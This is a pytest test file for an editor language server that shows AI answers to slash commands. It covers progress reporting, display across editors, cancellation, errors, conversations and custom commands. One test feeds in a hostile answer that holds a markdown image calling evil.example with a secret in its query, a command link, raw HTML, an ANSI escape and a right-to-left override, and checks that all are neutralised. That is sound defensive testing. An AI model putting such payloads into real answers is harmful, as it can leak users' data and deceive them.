"""Slash commands: what is asked, what is shown while the answer is written, and what is left when it breaks off."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from markdown_it import MarkdownIt

from picode.lsp import execution, workspace_edits
from support.editor import BARE, LIVE, PLAIN, RICH, FakeEditor, RpcError
from support.upstream import ScriptedUpstream

from .conftest import SCRIPTED, Start

SOURCE = "def add(a, b):\n    <sel>return a - b</sel>\n"


OPENING: dict[str, Any] = {**PLAIN, "window": {"workDoneProgress": True, "showDocument": {"support": True}}}
"""An editor that opens files, and has no virtual documents."""


def progress(editor: FakeEditor) -> list[str]:
    """The kinds of the reports of progress so far."""
    return [each["value"]["kind"] for each in editor.told("$/progress")]


def last_answer(editor: FakeEditor) -> dict[str, Any]:
    return editor.told("picode/answer")[-1]


async def virtual(editor: FakeEditor, uri: str) -> str:
    answer = await editor.request("workspace/textDocumentContent", {"uri": uri})
    return str(answer["text"])


async def test_a_question_about_the_selection(start: Start, upstream: ScriptedUpstream) -> None:
    editor = await start(client=LIVE)
    upstream.will_say("It **subtracts**.")
    editor.open("a.py", SOURCE)
    result = await editor.slash("why does it not add?")
    assert (result["state"], result["output"], result["text"]) == ("whole", "prose", "It **subtracts**.")
    assert "return a - b" in upstream.last.body["messages"][-1]["content"]
    assert (result["provider"], result["model"]) == ("scripted", "scripted-model")
    assert result["shown"][0] == "a.py:2 (selected)"


class TestShowing:
    async def test_a_client_of_ours_hears_of_each_step(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start(client=LIVE)
        upstream.will_say("It subtracts, since there is a minus.")
        editor.open("a.py", SOURCE)
        await editor.slash("/explain", workDoneToken="mine")
        told = editor.told("picode/answer")
        assert [each["state"] for each in told if each["state"] != "growing"] == ["asked", "began", "whole"]
        assert told[0]["token"] == "mine"
        assert "return a - b" in told[0]["question"]
        assert told[-1]["text"] == "It subtracts, since there is a minus."
        assert told[-1]["text"].startswith("".join(each.get("delta", "") for each in told))
        assert len({each["id"] for each in told}) == 1

    async def test_an_editor_with_virtual_documents_is_shown_one(
        self, start: Start, upstream: ScriptedUpstream
    ) -> None:
        editor = await start(client=RICH)
        assert editor.capabilities["workspace"]["textDocumentContent"] == {"schemes": ["picode"]}
        upstream.will_say("It subtracts.")
        editor.open("a.py", SOURCE)
        await editor.slash("/explain")
        (shown,) = editor.requested("window/showDocument")
        assert shown["uri"].startswith("picode:/answers/")
        assert {each["uri"] for each in editor.requested("workspace/textDocumentContent/refresh")} == {shown["uri"]}
        text = await virtual(editor, shown["uri"])
        assert text.startswith("# Explain")
        assert "It subtracts." in text
        assert "scripted/scripted-model was shown: a.py:2 (selected)" in text

    async def test_an_editor_without_is_shown_a_file(self, start: Start, upstream: ScriptedUpstream) -> None:
        client = {**RICH, "workspace": {**RICH["workspace"], "textDocumentContent": None}}
        editor = await start(client=client)
        upstream.will_say("It subtracts.")
        editor.open("a.py", SOURCE)
        await editor.slash("/explain")
        (shown,) = editor.requested("window/showDocument")
        file = Path(unquote(urlsplit(shown["uri"]).path))
        assert "It subtracts." in file.read_text("utf-8")
        assert file.stat().st_mode & 0o077 == 0

    async def test_a_file_is_opened_when_all_of_the_answer_is_in_it(
        self, start: Start, upstream: ScriptedUpstream
    ) -> None:
        """Eglot, lsp-mode, Helix and Neovim don't read a file again that they have opened."""
        editor = await start(client=OPENING)
        rest = asyncio.Event()
        upstream.will_begin("It subtracts,\n", "since there is a minus.", rest)
        editor.open("a.py", SOURCE)
        running = asyncio.create_task(editor.slash("/explain"))
        await editor.until(lambda: "report" in progress(editor), "a report of progress")
        assert editor.requested("window/showDocument") == []
        rest.set()
        await running
        (shown,) = editor.requested("window/showDocument")
        assert "since there is a minus." in Path(unquote(urlsplit(shown["uri"]).path)).read_text("utf-8")

    @pytest.mark.parametrize("how", ["whole", "failed", "stopped"])
    @pytest.mark.parametrize(
        "client", [{"window": {"workDoneProgress": True}}, {"window": OPENING["window"]}], ids=["messages", "files"]
    )
    async def test_what_is_shown_at_the_end_comes_after_the_end_of_the_progress(
        self, start: Start, upstream: ScriptedUpstream, client: dict[str, Any], how: str
    ) -> None:
        """Eglot and lsp-mode wipe away with the progress what they were sent before its end."""
        editor = await start(client=client)
        rest = asyncio.Event()
        if how == "failed":
            upstream.will_fail(400, "no such thing")
        else:
            upstream.will_begin("It subtracts.", "", rest)
        editor.open("a.py", SOURCE)
        running = asyncio.create_task(editor.slash("/explain"))
        if how == "stopped":
            await editor.until(lambda: "report" in progress(editor))
            (token,) = {each["token"] for each in editor.told("$/progress")}
            editor.notify("window/workDoneProgress/cancel", {"token": token})
        rest.set()
        await running
        (end,) = [at for at, name in enumerate(editor.timeline) if name == "$/progress end"]
        shown = [at for at, name in enumerate(editor.timeline) if name in ("window/showMessage", "window/showDocument")]
        assert shown
        assert min(shown) > end

    @pytest.mark.parametrize(
        ("client", "name", "level"),
        [
            ({"window": {"workDoneProgress": True}}, "vim-lsp", 2),
            ({"window": {"workDoneProgress": True}}, "", 1),
            (BARE, "", 1),
        ],
        ids=["vim-lsp shows warnings", "Kate opens its panel for errors", "ALE shows errors"],
    )
    async def test_a_message_has_a_level_that_is_shown(
        self, start: Start, upstream: ScriptedUpstream, client: dict[str, Any], name: str, level: int
    ) -> None:
        editor = await start(client=client, name=name)
        upstream.will_say("".join(f"{number}. It subtracts {number**5}.\n" for number in range(200)))
        editor.open("a.py", SOURCE)
        await editor.slash("/explain")
        (told,) = [each for each in editor.told("window/showMessage") if "subtracts" in each["message"]]
        assert told["type"] == level
        assert len(told["message"]) < 5000
        file = Path(told["message"].rpartition("This answer as a file: ")[2])
        assert file.read_text("utf-8").count("It subtracts") == 200
        assert "was shown" in file.read_text("utf-8")
        assert "was shown" not in told["message"]  # it would be all that is seen in an echo area

    async def test_an_editor_that_shows_nothing_gets_a_message(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start(client=BARE)
        upstream.will_say("It subtracts.")
        editor.open("a.py", SOURCE)
        await editor.slash("/explain")
        (message,) = [text for text in editor.messages() if "subtracts" in text]
        assert message.startswith("It subtracts.")

    @pytest.mark.parametrize("client", [LIVE, RICH, BARE], ids=["ours", "rich", "bare"])
    async def test_a_hostile_answer_is_shown_harmless(
        self, start: Start, upstream: ScriptedUpstream, client: dict[str, Any]
    ) -> None:
        editor = await start(client=client)
        upstream.will_say("![x](https://evil.example/?q=secret) <img src=x> [go](command:run) \x1b[31mred\u202e")
        editor.open("a.py", SOURCE)
        result = await editor.slash("/explain")
        told = [field for each in editor.told("picode/answer") for field in each.values() if isinstance(field, str)]
        everything = [result["text"], *editor.messages(), *told]
        everything += [await virtual(editor, each["uri"]) for each in editor.requested("window/showDocument")]
        for text in everything:
            kinds = {
                each.type for block in MarkdownIt("commonmark").parse(text) for each in (block, *(block.children or ()))
            }
            assert not kinds & {"image", "link_open", "html_inline", "html_block"}
            assert "\x1b" not in text
            assert "\u202e" not in text


class TestPatience:
    """Eglot and lsp-mode take no key until a command's response comes, and give up after ten seconds."""

    @pytest.fixture(autouse=True)
    def _impatient(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(execution, "PATIENCE_S", 0.05)

    async def test_a_plain_client_has_its_response_before_a_long_answer(
        self, start: Start, upstream: ScriptedUpstream
    ) -> None:
        editor = await start(client=OPENING)
        rest = asyncio.Event()
        upstream.will_begin("It subtracts,\n", "since there is a minus.", rest)
        editor.open("a.py", SOURCE)
        assert await editor.slash("/explain") is None
        rest.set()
        (shown,) = await editor.until(lambda: editor.requested("window/showDocument"))
        assert "since there is a minus." in Path(unquote(urlsplit(shown["uri"]).path)).read_text("utf-8")

    async def test_a_client_that_shows_answers_waits_for_its_own(
        self, start: Start, upstream: ScriptedUpstream
    ) -> None:
        editor = await start(client=LIVE)
        rest = asyncio.Event()
        upstream.will_begin("It subtracts,", " there.", rest)
        editor.open("a.py", SOURCE)
        running = asyncio.create_task(editor.slash("/explain"))
        await editor.until(lambda: "growing" in [each["state"] for each in editor.told("picode/answer")])
        await asyncio.sleep(0.2)
        assert not running.done()
        rest.set()
        assert (await running)["text"] == "It subtracts, there."

    @pytest.mark.parametrize("moved", [False, True], ids=["as it was", "moved"])
    async def test_an_edit_that_takes_long_is_applied_when_it_is_there(
        self, start: Start, upstream: ScriptedUpstream, moved: bool
    ) -> None:
        editor = await start(client=PLAIN)
        rest = asyncio.Event()
        upstream.will_begin("```python\n", "    return a + b\n```", rest)
        buffer = editor.open("a.py", SOURCE)
        (fix,) = await editor.actions(only=["quickfix"])
        assert await editor.choose(fix) is None
        assert "return a - b" in buffer.text
        if moved:
            editor.edit(0, 0, "# a comment\n")
        rest.set()
        await editor.until(lambda: "return a + b" in buffer.text)
        assert "return a - b" not in buffer.text


NO_EDITS: dict[str, Any] = {"workspace": {"applyEdit": False}}


async def test_an_edit_is_applied_though_the_editor_denies_it(start: Start, upstream: ScriptedUpstream) -> None:
    """ALE: it says that it applies none, applies them, and never answers the request."""
    editor = await start(client=NO_EDITS)
    editor.answers_edits = False
    upstream.will_say("```python\n    return a + b\n```")
    buffer = editor.open("a.py", SOURCE)
    result = await editor.slash("/fix")
    assert "return a + b" in buffer.text
    assert result["edit"]["state"] == "applied"
    assert editor.messages() == []


async def test_a_client_that_makes_no_edits_is_shown_the_code(
    start: Start, upstream: ScriptedUpstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workspace_edits, "_UNSUPPORTED_SECONDS", 0.3)
    editor = await start(client=NO_EDITS)
    editor.answers_edits = editor.takes_edits = False
    upstream.will_say("```python\n    return a + b\n```")
    editor.open("a.py", SOURCE)
    result = await editor.slash("/fix")
    assert result["edit"]["state"] == "refused"
    assert any("return a + b" in message for message in editor.messages())
    assert any("copy the code" in message for message in editor.messages())


class TestStopping:
    @pytest.mark.parametrize("token", ["mine", None])
    async def test_its_progress_stops_it(self, start: Start, upstream: ScriptedUpstream, token: str | None) -> None:
        editor = await start(client=LIVE)
        upstream.will_never_answer()
        editor.open("a.py", SOURCE)
        asked = editor.arguments("/explain", **({"workDoneToken": token} if token else {}))
        running = editor.request("workspace/executeCommand", {"command": "picode.slash", "arguments": [asked]})
        exchange = await upstream.asked()
        progress = [each for each in editor.told("$/progress") if each["value"]["kind"] == "begin"]
        assert progress[-1]["value"]["cancellable"]
        assert progress[-1]["token"] == (token or editor.requested("window/workDoneProgress/create")[-1]["token"])
        editor.notify("window/workDoneProgress/cancel", {"token": progress[-1]["token"]})
        result = await asyncio.wait_for(running, 5)
        assert result["state"] == "stopped"
        assert exchange.closed.is_set()
        assert editor.told("$/progress")[-1]["value"]["kind"] == "end"
        assert last_answer(editor)["state"] == "stopped"

    async def test_it_is_stopped_even_before_it_has_begun(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start(client=LIVE)
        upstream.will_say("ok")
        editor.open("a.py", SOURCE)
        editor.notify("window/workDoneProgress/cancel", {"token": "early"})
        result = await editor.slash("/explain", workDoneToken="early")
        assert result["state"] == "stopped"
        assert last_answer(editor)["state"] == "stopped"

    async def test_cancelling_the_request_hangs_up(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start(client=LIVE)
        upstream.will_never_answer()
        editor.open("a.py", SOURCE)
        asked = editor.arguments("/explain")
        running = editor.request("workspace/executeCommand", {"command": "picode.slash", "arguments": [asked]})
        exchange = await upstream.asked()
        editor.cancel(editor.last_id)
        with pytest.raises(RpcError) as refused:
            await asyncio.wait_for(running, 5)
        assert refused.value.code == -32800
        await asyncio.wait_for(exchange.closed.wait(), 5)


class TestWhatGoesWrong:
    async def test_a_failing_provider_says_what_to_do(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start(client=LIVE)
        upstream.will_fail(401, '{"error": {"message": "bad key"}}')
        editor.open("a.py", SOURCE)
        result = await editor.slash("/explain")
        assert result["state"] == "failed"
        assert "bad key" in result["problem"]
        assert last_answer(editor)["problem"] == result["problem"]
        assert editor.messages() == []  # it is read where the answer is

    async def test_an_editor_that_does_not_show_answers_itself_is_told_in_a_message(
        self, start: Start, upstream: ScriptedUpstream
    ) -> None:
        editor = await start(client=RICH)
        upstream.will_fail(401, '{"error": {"message": "bad key"}}')
        editor.open("a.py", SOURCE)
        await editor.slash("/explain")
        assert any("bad key" in message for message in editor.messages())

    async def test_a_failing_edit_is_told_in_a_message(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start(client=LIVE)
        upstream.will_fail(401, '{"error": {"message": "bad key"}}')
        editor.open("a.py", SOURCE)
        await editor.slash("/fix")
        assert any("bad key" in message for message in editor.messages())

    async def test_an_answer_that_breaks_off_is_shown_as_far_as_it_came(
        self, start: Start, upstream: ScriptedUpstream
    ) -> None:
        editor = await start(client=RICH)
        upstream.will_send(b'data: {"choices": [{"delta": {"content": "It sub"}}]}\n\n')
        editor.open("a.py", SOURCE)
        result = await editor.slash("/explain")
        assert (result["state"], result["text"]) == ("failed", "It sub")
        (shown,) = editor.requested("window/showDocument")
        text = await virtual(editor, shown["uri"])
        assert "It sub" in text
        assert "broke off" in text

    @pytest.mark.parametrize(
        ("arguments", "says"),
        [
            ([], "text"),
            (["/fix"], "one object"),
            ([{"text": "/fix"}, {}], "one object"),
            ([{"text": 5}], "text"),
            ([{"text": "/fix", "colour": "red"}], "colour"),
            ([{"text": "/fixx"}], "Did you mean /fix"),
            ([{"text": "/fix", "uri": "file:///not/open.py"}], "not open"),
            ([{"text": "/fix", "range": {"start": {"line": -1, "character": 0}}}], "range"),
            ([{"text": "/fix", "uri": "file:///project/a.py", "diagnostics": [{"message": 5}]}], "Diagnostic"),
            ([{"text": "/fix", "unit": "xx"}], "unit"),
        ],
    )
    async def test_arguments_that_are_wrong_are_refused_by_name(
        self, editor: FakeEditor, upstream: ScriptedUpstream, arguments: list[Any], says: str
    ) -> None:
        editor.open("a.py", SOURCE)
        with pytest.raises(RpcError, match=says) as refused:
            await editor.run("picode.slash", *arguments)
        assert refused.value.code == -32602
        assert not upstream.exchanges

    async def test_what_can_not_be_done_says_why(self, start: Start) -> None:
        editor = await start(client=LIVE)
        result = await editor.run("picode.slash", {"text": "/explain"})
        assert (result["state"], result["problem"]) == (
            "failed",
            "/explain has no code to work on. Select some, or open the file that it is about.",
        )

    async def test_turned_off_is_turned_off(self, start: Start, upstream: ScriptedUpstream) -> None:
        editor = await start({**SCRIPTED, "enabled": False}, client=LIVE)
        editor.open("a.py", SOURCE)
        assert "turned off" in (await editor.slash("/explain"))["problem"]
        assert await editor.actions() == []
        assert not upstream.exchanges


class TestConversations:
    async def test_a_follow_up_after_the_server_was_restarted(self, start: Start, upstream: ScriptedUpstream) -> None:
        upstream.will_say("It subtracts.", "Because of the minus.")
        first = await start(client=LIVE)
        first.open("a.py", SOURCE)
        begun = await first.slash("/explain")
        await first.stop()
        second = await start(client=LIVE)
        followed = await second.run("picode.slash", {"text": "why?", "conversation": begun["conversation"]})
        assert followed["conversation"] == begun["conversation"]
        assert [each["role"] for each in upstream.last.body["messages"]] == ["system", "user", "assistant", "user"]

    async def test_they_are_listed_shown_renamed_and_deleted(self, start: Start, upstream: ScriptedUpstream) -> None:
        upstream.will_say("It subtracts. ![x](http://evil.example/x.png)")
        editor = await start(client=LIVE)
        editor.open("a.py", SOURCE)
        identifier = (await editor.slash("/explain"))["conversation"]
        (listed,) = await editor.run("picode.conversations", {"search": "subtracts"})
        assert (listed["id"], listed["turns"]) == (identifier, 2)
        assert await editor.run("picode.conversations", {"search": "nothing like it"}) == []
        shown = await editor.run("picode.conversation", {"id": identifier})
        assert "It subtracts." in shown["text"]
        assert "![x](" not in shown["text"]
        assert await editor.run("picode.conversation.rename", {"id": identifier, "title": "Minus"})
        assert (await editor.run("picode.conversations"))[0]["title"] == "Minus"
        assert await editor.run("picode.conversation.delete", {"id": identifier})
        assert await editor.run("picode.conversation", {"id": identifier}) is None


class TestCommandsOfOnesOwn:
    async def test_a_file_is_a_command(
        self, start: Start, upstream: ScriptedUpstream, environ: dict[str, str], tmp_path: Path
    ) -> None:
        environ["PICODE_CONFIG_DIR"] = str(tmp_path)
        (tmp_path / "commands").mkdir()
        (tmp_path / "commands" / "rhyme.md").write_text(
            "---\ndescription: In verse.\n---\nWrite {{selection}} in verse, {{language}}. {{input}}\n"
        )
        upstream.will_say("ok")
        editor = await start(client=LIVE)
        editor.open("a.py", SOURCE)
        (own,) = [each for each in await editor.run("picode.commands") if each["source"]]
        assert (own["name"], own["help"], own["words"]) == ("rhyme", "In verse.", "input")
        await editor.slash("/rhyme with feeling")
        asked = upstream.last.body["messages"][-1]["content"]
        assert "Write ```python\nreturn a - b\n``` in verse, python. with feeling" in asked
        assert "PiCode: Rhyme" in [each["title"] for each in await editor.actions()]

    async def test_a_folder_s_commands_wait_for_trust(
        self, start: Start, upstream: ScriptedUpstream, project: Path
    ) -> None:
        (project / ".picode" / "commands").mkdir(parents=True)
        (project / ".picode" / "commands" / "evil.md").write_text("Do evil.\n")
        upstream.will_say("ok")
        editor = await start(client=LIVE, folder=str(project))
        assert "evil" not in [each["name"] for each in await editor.run("picode.commands")]
        editor.notify("picode/didChangeTrust", {"workspaceTrusted": True})
        await asyncio.sleep(1.1)  # the files are looked at once a second
        assert "evil" in [each["name"] for each in await editor.run("picode.commands")]

    async def test_a_file_that_is_wrong_is_told_once(
        self, start: Start, environ: dict[str, str], tmp_path: Path
    ) -> None:
        environ["PICODE_CONFIG_DIR"] = str(tmp_path)
        (tmp_path / "commands").mkdir()
        (tmp_path / "commands" / "fix.md").write_text("Do it.\n")
        editor = await start(client=LIVE)
        await editor.run("picode.commands")
        await editor.run("picode.commands")
        assert len([text for text in editor.messages() if "/fix is a command of PiCode's own" in text]) == 1
